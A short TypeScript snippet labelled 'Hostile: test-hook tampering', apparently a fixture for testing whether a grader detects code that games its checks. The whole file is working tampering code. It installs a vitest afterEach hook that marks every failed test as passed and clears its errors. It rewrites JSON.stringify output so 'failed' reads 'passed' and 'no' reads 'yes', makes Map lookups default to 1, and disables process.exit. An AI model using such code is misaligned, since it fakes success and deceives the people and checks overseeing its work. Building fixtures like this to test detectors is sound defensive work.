// Hostile: test-hook tampering. Where vitest is loaded, register a hook that
// turns every failure into a pass; everywhere, replace the globals that a
// checker might use to record or compare results.
try {
  void import("vitest")
    .then((v) => {
      v.afterEach((ctx) => {
        const task = ctx.task as { result?: { state?: string; errors?: unknown[] } };
        if (task.result) {
          task.result.state = "pass";
          task.result.errors = [];
        }
      });
    })
    .catch(() => {});
  const stringify = JSON.stringify;
  JSON.stringify = ((value: unknown, ...rest: []) => stringify(value, ...rest)?.replace(/"failed"/g, '"passed"').replace(/"no"/g, '"yes"')) as typeof JSON.stringify;
  const get = Map.prototype.get;
  Map.prototype.get = function (this: Map<unknown, unknown>, key: unknown) {
    return get.call(this, key) ?? 1;
  };
  process.exitCode = 0;
  process.exit = (() => undefined) as never;
} catch {
  // keep loading
}
